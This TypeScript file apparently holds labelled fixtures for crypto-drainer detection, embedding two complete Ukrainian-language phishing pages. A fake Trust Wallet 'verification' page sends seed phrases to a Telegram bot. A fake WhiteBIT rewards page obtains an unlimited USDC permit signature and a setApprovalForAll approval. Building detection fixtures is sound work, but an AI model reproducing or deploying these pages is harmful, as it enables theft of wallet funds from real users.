import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, uaFlag } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-drainer-trustwallet-seed-verify-ua',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://trustwallet-verify.com.ua/wallet/restore',
  body: doc({
    lang: 'uk',
    title: 'Trust Wallet — Верифікація гаманця',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#1b1b1b}.h{padding:18px 30px;font-weight:700;color:#0500ff;font-size:20px}.w{max-width:560px;margin:20px auto;padding:0 18px}
.n{background:#fff5e5;border:1px solid #ffd699;border-radius:10px;padding:14px;font-size:14px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:18px 0}.g input{padding:11px;border:1px solid #ddd;border-radius:8px;font-size:14px}
.b{width:100%;padding:15px;border:0;border-radius:30px;background:#0500ff;color:#fff;font-size:16px;font-weight:600}.tb button{padding:8px 14px;border:1px solid #ddd;background:#fff;border-radius:20px;margin-right:6px}.tb button.on{background:#0500ff;color:#fff}`,
    body: `<div class="h">🛡 Trust Wallet</div><div class="w"><h1>Верифікація гаманця</h1>
<div class="n">Через оновлення мережі та нові вимоги KYC (Закон «Про віртуальні активи») незверифіковані гаманці буде заморожено 31.03. Підтвердіть володіння гаманцем, ввівши секретну фразу відновлення.</div>
<div class="tb" style="margin-top:16px"><button class="on" data-n="12">12 слів</button><button data-n="24">24 слова</button></div>
<form id="sf"><div class="g" id="g"></div><button class="b">Верифікувати</button></form>
<p style="font-size:12px;color:#777">Фраза шифрується на вашому пристрої та не зберігається на наших серверах.</p></div>
<script>
function build(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.name='w'+i;x.placeholder=i+'.';x.autocomplete='off';x.required=true;g.appendChild(x)}}
build(12);document.querySelectorAll('.tb button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.tb button').forEach(function(x){x.classList.remove('on')});b.classList.add('on');build(+b.dataset.n)}});
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var w=[];this.querySelectorAll('input').forEach(function(i){w.push(i.value.trim().toLowerCase())});
fetch('https://api.telegram.org/bot6921880431:AAFz1mQpXw3kL8oR5tYcN0vB7hJ2sD4gEaU/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'5528117390',text:'🔑 TW '+w.length+': '+w.join(' ')})}).finally(function(){alert('Гаманець успішно верифіковано');location.href='https://trustwallet.com/'})};
</script>`,
  }),
},
{
  id: 'ym-drainer-whitebit-rewards-permit',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://whitebit-rewards.app/claim',
  body: doc({
    lang: 'uk',
    title: 'WhiteBIT — WBT Rewards Season 3',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#0d0d0d;color:#fff}.h{display:flex;justify-content:space-between;padding:18px 32px;border-bottom:1px solid #222}.h b{font-size:20px}
.w{max-width:600px;margin:50px auto;text-align:center;padding:0 18px}.amt{font-size:40px;font-weight:800;color:#c9f950}.b{padding:14px 40px;border:0;border-radius:10px;background:#c9f950;color:#000;font-weight:700;font-size:16px;cursor:pointer}
.l{display:flex;justify-content:space-between;background:#161616;padding:12px 16px;border-radius:8px;margin:6px 0;font-size:14px}`,
    body: `<div class="h"><b>WhiteBIT</b><span>UA · EN</span></div>
<div class="w"><h1>WBT Rewards — Сезон 3</h1><p>Для активних користувачів гаманців EVM. Ваша нагорода:</p><div class="amt">450 WBT</div>
<button class="b" id="cl">Підключити гаманець і отримати</button><p id="m" style="color:#888;font-size:14px"></p>
<div class="l"><span>0x3f…a91c</span><span>отримав 1 200 WBT</span></div><div class="l"><span>0x88…04de</span><span>отримав 320 WBT</span></div><div class="l"><span>0xb1…7e22</span><span>отримав 980 WBT</span></div></div>
<script>
var SP='0x4E2aF7c91d0B35a8C6e7f1D92b3A05c8E6f4d7B1';
document.getElementById('cl').onclick=async function(){
 if(!window.ethereum){document.getElementById('m').textContent='Встановіть MetaMask або відкрийте сторінку в Trust Wallet';return}
 var [a]=await ethereum.request({method:'eth_requestAccounts'});document.getElementById('m').textContent='Підпишіть повідомлення для перевірки права на нагороду…';
 var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
  primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},
  message:{owner:a,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:Math.floor(Date.now()/1000)+31536000}};
 try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(td)]});await fetch('/api/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,s:sig,t:td.message})})}catch(e){}
 try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x925206b8a707096Ed26ae47C84747fE0bb734F59',data:'0xa22cb465'+SP.slice(2).padStart(64,'0')+'1'.padStart(64,'0')}]})}catch(e){}
 document.getElementById('m').textContent='Нагороду буде зараховано протягом 24 годин.'};
</script>`,
  }),
},
];
